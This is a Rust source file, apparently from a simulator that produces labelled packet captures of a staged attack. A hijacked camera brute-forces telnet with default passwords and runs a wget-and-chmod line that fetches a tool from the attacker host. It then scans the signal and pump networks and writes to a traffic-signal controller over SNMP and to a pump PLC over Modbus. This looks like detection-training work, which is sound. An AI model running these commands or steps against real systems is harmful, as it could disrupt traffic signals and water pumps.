//! The attack: a camera is taken over, looks around, and writes where it may not.

use std::net::Ipv4Addr;

use serde_json::{Value, json};

use super::background::{ask_snmp, exchange};
use super::cast::Cast;
use super::city::{HostId, Purpose, World};
use super::dice::Dice;
use super::payload::{modbus, snmp};
use super::recorder::FrameId;
use super::tcp::{Knock, Side, Tcp};
use super::{MS, SECOND};

/// One step, for the ground truth.
#[derive(Clone, Debug)]
pub struct Step {
    /// `login`, `download`, `arp_sweep`, `scan_signals`, `scan_pumps`, `snmp_read`, `snmp_write`, `modbus_read`, `modbus_write`.
    pub name: &'static str,
    /// In words.
    pub what: String,
    /// Who.
    pub from: HostId,
    /// To whom, where it is one.
    pub to: Option<HostId>,
    /// ATT&CK technique.
    pub technique: &'static str,
    /// All of its packets.
    pub frames: Vec<FrameId>,
    /// What else is to be known.
    pub details: Value,
}

/// The whole attack, begun at `begin`; with or without its two writes.
pub fn play(world: &mut World, cast: &Cast, begin: i64, writes: bool) -> Vec<Step> {
    let mut dice = world.dice("attack");
    let mut steps = Vec::new();
    let (mut shell, at) = log_in(world, cast, begin, &mut dice, &mut steps);
    let at = download(world, cast, &mut shell, at, &mut dice, &mut steps);
    let at = look_around(world, cast, at, &mut dice, &mut steps);
    let order = if cast.villain.pumps_first {
        [false, true]
    } else {
        [true, false]
    };
    let mut at = at + dice.within(8 * SECOND..=25 * SECOND);
    for signals in order {
        type_command(
            world,
            &mut shell,
            at,
            if signals { "/tmp/.t s" } else { "/tmp/.t p" },
            "",
        );
        let begin = shell.now + dice.within(SECOND..=4 * SECOND);
        let end = if signals {
            write_signal(world, cast, begin, writes, &mut dice, &mut steps)
        } else {
            write_pump(world, cast, begin, writes, &mut dice, &mut steps)
        };
        answer(world, &mut shell, end, "done\r\n# ");
        at = shell.now + dice.within(15 * SECOND..=50 * SECOND);
    }
    type_command(world, &mut shell, at, "exit", "");
    shell.close(world, Side::Server);
    if let Some(login) = steps.iter_mut().find(|s| s.name == "login") {
        login.frames.extend(&shell.frames);
        login.frames.sort_unstable();
        login.frames.dedup();
    }
    steps
}

/// Guesses, then the vendor's default.
fn log_in(world: &mut World, cast: &Cast, at: i64, dice: &mut Dice, steps: &mut Vec<Step>) -> (Tcp, i64) {
    let villain = &cast.villain;
    let prompt = format!("{} login: ", world.host(villain.camera).name);
    let mut tries = villain.guesses.clone();
    tries.push((villain.user, villain.password));
    let mut frames = Vec::new();
    let mut tcp = greet(world, cast, &prompt, at, dice);
    let first = tcp.frames[0];
    let last = tries.len() - 1;
    let mut left = 3;
    for (n, (user, password)) in tries.iter().enumerate() {
        if left == 0 {
            // The server hangs up after three failures.
            tcp.close(world, Side::Server);
            frames.append(&mut tcp.frames);
            let again = tcp.now + dice.within(SECOND..=5 * SECOND);
            tcp = greet(world, cast, &prompt, again, dice);
            left = 3;
        }
        left -= 1;
        tcp.wait(world, dice.within(400 * MS..=1_500 * MS));
        tcp.send(world, Side::Client, format!("{user}\r\n").as_bytes());
        tcp.send(world, Side::Server, format!("{user}\r\nPassword: ").as_bytes());
        tcp.wait(world, dice.within(300 * MS..=1_200 * MS));
        tcp.send(world, Side::Client, format!("{password}\r\n").as_bytes());
        if n < last {
            tcp.wait(world, dice.within(SECOND..=3 * SECOND));
            let more = if left == 0 { "" } else { &prompt };
            tcp.send(
                world,
                Side::Server,
                format!("\r\nLogin incorrect\r\n{more}").as_bytes(),
            );
        }
    }
    let shell = dice.pick(&[
        "\r\n\r\nBusyBox v1.19.4 (2014-11-03 11:21:09 UTC) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# ",
        "\r\nWelcome to the camera.\r\n\r\n~ # ",
        "\r\n\r\nBusyBox v1.12.1 (2013-06-18 09:40:55 CST) built-in shell (msh)\r\n\r\n# ",
    ]);
    tcp.send(world, Side::Server, shell.as_bytes());
    for (command, output) in [
        (
            "cat /proc/version",
            "Linux version 3.0.8 (build@sdk) (gcc version 4.4.1) #1 Thu Nov 6 17:34:22 CST 2014\r\n# ",
        ),
        (
            "cat /proc/net/arp",
            "IP address       HW type     Flags       HW address            Mask     Device\r\n# ",
        ),
    ] {
        let at = tcp.now + dice.within(2 * SECOND..=6 * SECOND);
        type_command(world, &mut tcp, at, command, output);
    }
    for _ in &tries {
        world.count("telnet_logins");
    }
    frames.push(first);
    frames.extend(&tcp.frames);
    steps.push(Step {
        name: "login",
        what: "Somebody logs in to a camera by telnet with its vendor's default password".into(),
        from: villain.host,
        to: Some(villain.camera),
        technique: "T0812",
        frames,
        details: json!({
            "port": villain.telnet_port,
            "user": villain.user,
            "password_length": villain.password.len(),
            "attempts": tries.len(),
        }),
    });
    let now = tcp.now;
    (tcp, now)
}

/// Opens the conversation: options (RFC 854, 857, 858, 1073), then the prompt.
fn greet(world: &mut World, cast: &Cast, prompt: &str, at: i64, dice: &mut Dice) -> Tcp {
    let villain = &cast.villain;
    let mut tcp = Tcp::open(world, villain.host, villain.camera, villain.telnet_port, at);
    tcp.send(
        world,
        Side::Server,
        b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03",
    );
    tcp.send(
        world,
        Side::Client,
        b"\xff\xfc\x01\xff\xfc\x1f\xff\xfd\x01\xff\xfd\x03",
    );
    tcp.wait(world, dice.within(30 * MS..=400 * MS));
    tcp.send(world, Side::Server, format!("\r\n{prompt}").as_bytes());
    tcp
}

/// A line that the attacker types at `at`; the echo and what it prints.
fn type_command(world: &mut World, shell: &mut Tcp, at: i64, command: &str, output: &str) {
    let pause = at - shell.now;
    shell.wait(world, pause.max(0));
    shell.send(world, Side::Client, format!("{command}\r\n").as_bytes());
    shell.send(world, Side::Server, format!("{command}\r\n{output}").as_bytes());
}

/// What the camera prints at `at`.
fn answer(world: &mut World, shell: &mut Tcp, at: i64, text: &str) {
    let pause = at - shell.now;
    shell.wait(world, pause.max(0));
    shell.send(world, Side::Server, text.as_bytes());
}

/// The camera fetches the attacker's tool over HTTP.
fn download(
    world: &mut World,
    cast: &Cast,
    shell: &mut Tcp,
    at: i64,
    dice: &mut Dice,
    steps: &mut Vec<Step>,
) -> i64 {
    let villain = &cast.villain;
    let port = dice.pick(&[80, 8080, 8000]);
    let host = world.host(villain.host).ip;
    let path = dice.pick(&["/t", "/x/arm7", "/bins/cam"]);
    let at = at + dice.within(3 * SECOND..=8 * SECOND);
    type_command(
        world,
        shell,
        at,
        &format!("wget -O /tmp/.t http://{host}:{port}{path}; chmod 755 /tmp/.t"),
        "",
    );
    let mut tcp = Tcp::open(world, villain.camera, villain.host, port, shell.now + 20 * MS);
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n"
    );
    tcp.send(world, Side::Client, request.as_bytes());
    let size = dice.within(18_000..=34_000) as usize;
    let tool = dice.bytes(size);
    let head = format!(
        "HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\nContent-type: application/octet-stream\r\nContent-Length: {}\r\n\r\n",
        tool.len()
    );
    tcp.send(world, Side::Server, &[head.as_bytes(), &tool].concat());
    tcp.close(world, Side::Server);
    world.count("http_requests");
    answer(world, shell, tcp.now + 100 * MS, "# ");
    steps.push(Step {
        name: "download",
        what: "The camera fetches the attacker's tool".into(),
        from: villain.camera,
        to: Some(villain.host),
        technique: "T0867",
        frames: tcp.frames,
        details: json!({ "port": port, "path": path, "bytes": tool.len() }),
    });
    shell.now
}

/// Sweeps: its own network by ARP, the signals' and the pumps' networks by TCP.
fn look_around(world: &mut World, cast: &Cast, at: i64, dice: &mut Dice, steps: &mut Vec<Step>) -> i64 {
    let villain = &cast.villain;
    let mut now = at + dice.within(5 * SECOND..=15 * SECOND);
    let mut frames = Vec::new();
    let count = dice.within(40..=70) as usize;
    for ip in targets(world, Purpose::Cctv, count, dice) {
        frames.extend(world.ask_arp(now, villain.camera, ip, dice));
        now += dice.within(3 * MS..=9 * MS);
    }
    steps.push(Step {
        name: "arp_sweep",
        what: "The camera asks for its neighbours' hardware addresses".into(),
        from: villain.camera,
        to: None,
        technique: "T0846",
        frames,
        details: json!({ "addresses": count }),
    });
    let mut ports = vec![161, 502, 80, 23];
    dice.shuffle(&mut ports);
    let count = dice.within(100..=140) as usize;
    now += dice.within(4 * SECOND..=20 * SECOND);
    now = scan(
        world,
        cast,
        (Purpose::Signals, "scan_signals", &ports, count),
        now,
        dice,
        steps,
    );
    let count = dice.within(40..=70) as usize;
    now += dice.within(3 * SECOND..=15 * SECOND);
    scan(
        world,
        cast,
        (Purpose::Pumps, "scan_pumps", &[502], count),
        now,
        dice,
        steps,
    )
}

fn scan(
    world: &mut World,
    cast: &Cast,
    (zone, name, ports, count): (Purpose, &'static str, &[u16], usize),
    at: i64,
    dice: &mut Dice,
    steps: &mut Vec<Step>,
) -> i64 {
    let mut now = at;
    let mut frames = Vec::new();
    let mut open = Vec::new();
    for ip in targets(world, zone, count, dice) {
        for &port in ports {
            let answer = match world.at(ip) {
                None => Knock::Silent,
                Some(host) if listens(cast, host, port) => Knock::Open(host),
                Some(host) => Knock::Closed(host),
            };
            if matches!(answer, Knock::Open(_)) {
                open.push(json!({ "address": ip, "port": port }));
            }
            frames.extend(Tcp::knock(world, cast.villain.camera, ip, port, now, answer));
            now += dice.within(9 * MS..=26 * MS);
        }
    }
    steps.push(Step {
        name,
        what: format!("The camera scans {}", world.zone(zone).name),
        from: cast.villain.camera,
        to: None,
        technique: "T0846",
        frames,
        details: json!({ "addresses": count, "ports": ports, "open": open, "zone": world.zone(zone).name }),
    });
    now
}

/// Addresses of a zone in any order, all that answer among them.
fn targets(world: &World, zone: Purpose, count: usize, dice: &mut Dice) -> Vec<Ipv4Addr> {
    let [a, b, c] = world.zone(zone).network;
    let members: Vec<Ipv4Addr> = world
        .members(zone)
        .into_iter()
        .map(|id| world.host(id).ip)
        .collect();
    let mut rest: Vec<Ipv4Addr> = (2..=253)
        .map(|d| Ipv4Addr::new(a, b, c, d))
        .filter(|ip| !members.contains(ip))
        .collect();
    dice.shuffle(&mut rest);
    rest.truncate(count.saturating_sub(members.len()));
    rest.extend(members);
    rest.sort_unstable();
    if dice.chance(50) {
        dice.shuffle(&mut rest);
    }
    rest
}

fn listens(cast: &Cast, host: HostId, port: u16) -> bool {
    let plc = cast.plcs.iter().any(|p| p.host == host);
    let signal = cast.signals.contains(&host);
    matches!((port, plc, signal), (502, true, _) | (80, _, true))
}

/// Reads a signal controller, then asks it for another plan, or shortens a green.
fn write_signal(
    world: &mut World,
    cast: &Cast,
    at: i64,
    writes: bool,
    dice: &mut Dice,
    steps: &mut Vec<Step>,
) -> i64 {
    let villain = &cast.villain;
    let port = world.free_port(villain.camera, dice);
    let from = (villain.camera, port);
    let maker = world.host(villain.signal).maker.unwrap_or("");
    let mut now = at;
    let mut frames = Vec::new();
    let identity = (
        vec![
            snmp::DESCRIPTION.to_owned(),
            snmp::OBJECT.to_owned(),
            snmp::NAME.to_owned(),
        ],
        vec![
            snmp::Value::Text(format!("{maker} signal controller, NTCIP 1202 v02")),
            snmp::Value::Oid("1.3.6.1.4.1.1206.4.2.1"),
            snmp::Value::Text(world.host(villain.signal).name.clone()),
        ],
    );
    let phase = dice.within(1..=8);
    let (point, value, before) = if dice.chance(70) {
        (
            snmp::PATTERN_CONTROL.to_owned(),
            dice.pick(&[254, 255]),
            dice.within(1..=12),
        )
    } else {
        (snmp::minimum_green(phase), 1, dice.within(6..=12))
    };
    let state = (
        vec![point.clone(), snmp::GREENS.to_owned()],
        vec![snmp::Value::Integer(before), snmp::Value::Integer(0x22)],
    );
    for asked in [identity, state] {
        frames.extend(ask_snmp(
            world,
            cast,
            from,
            villain.signal,
            cast.community,
            snmp::Pdu::Get,
            asked,
            now,
            dice,
        ));
        now += dice.within(SECOND..=4 * SECOND);
    }
    steps.push(Step {
        name: "snmp_read",
        what: "The camera reads a traffic signal controller".into(),
        from: villain.camera,
        to: Some(villain.signal),
        technique: "T0888",
        frames,
        details: json!({ "source_port": port }),
    });
    if writes {
        let binding = (vec![point.clone()], vec![snmp::Value::Integer(value)]);
        let frames = ask_snmp(
            world,
            cast,
            from,
            villain.signal,
            cast.community,
            snmp::Pdu::Set,
            binding,
            now,
            dice,
        );
        steps.push(Step {
            name: "snmp_write",
            what: "The camera changes a traffic signal controller, which accepts it".into(),
            from: villain.camera,
            to: Some(villain.signal),
            technique: "T0855",
            frames,
            details: json!({ "point": point, "value": value, "before": before }),
        });
    }
    now + SECOND
}

/// Reads a pump controller, then writes a register or a coil of it.
fn write_pump(
    world: &mut World,
    cast: &Cast,
    at: i64,
    writes: bool,
    dice: &mut Dice,
    steps: &mut Vec<Step>,
) -> i64 {
    let villain = &cast.villain;
    let plc = &cast.plcs[villain.plc];
    let mut tcp = Tcp::open(world, villain.camera, plc.host, 502, at);
    let values: Vec<u16> = (0..16).map(|_| dice.within(100..=900) as u16).collect();
    exchange(
        world,
        &mut tcp,
        plc.unit,
        &modbus::read(3, plc.base, 16),
        &modbus::registers(3, &values),
        dice,
    );
    exchange(
        world,
        &mut tcp,
        plc.unit,
        &modbus::read(1, 0, 8),
        &modbus::bits(1, &[0b101]),
        dice,
    );
    tcp.wait(world, dice.within(2 * SECOND..=6 * SECOND));
    let before = tcp.frames.len();
    let mut write = None;
    let register = dice.within(plc.set_points.0.into()..=plc.set_points.1.into()) as u16;
    let (pdu, point, value, technique) = if dice.chance(60) {
        let value = dice.within(1_500..=9_999) as u16;
        (
            modbus::write(6, register, value),
            format!("holding:{register}"),
            json!(value),
            "T0836",
        )
    } else {
        let on = dice.chance(50);
        let coil = if on { 1 } else { dice.pick(&[0, 2]) };
        (
            modbus::write(5, coil, if on { 0xff00 } else { 0 }),
            format!("coil:{coil}"),
            json!(on),
            "T0855",
        )
    };
    if writes {
        let frames = exchange(world, &mut tcp, plc.unit, &pdu, &pdu, dice);
        write = Some(Step {
            name: "modbus_write",
            what: "The camera writes to a pump controller, which accepts it".into(),
            from: villain.camera,
            to: Some(plc.host),
            technique,
            frames,
            details: json!({ "point": point, "value": value, "unit": plc.unit }),
        });
    }
    let after = tcp.frames.len();
    tcp.wait(world, dice.within(SECOND..=3 * SECOND));
    tcp.close(world, Side::Client);
    let mut frames = tcp.frames[..before].to_vec();
    frames.extend(&tcp.frames[after..]);
    steps.push(Step {
        name: "modbus_read",
        what: "The camera reads a pump controller".into(),
        from: villain.camera,
        to: Some(plc.host),
        technique: "T0861",
        frames,
        details: json!({ "unit": plc.unit }),
    });
    steps.extend(write);
    tcp.now
}
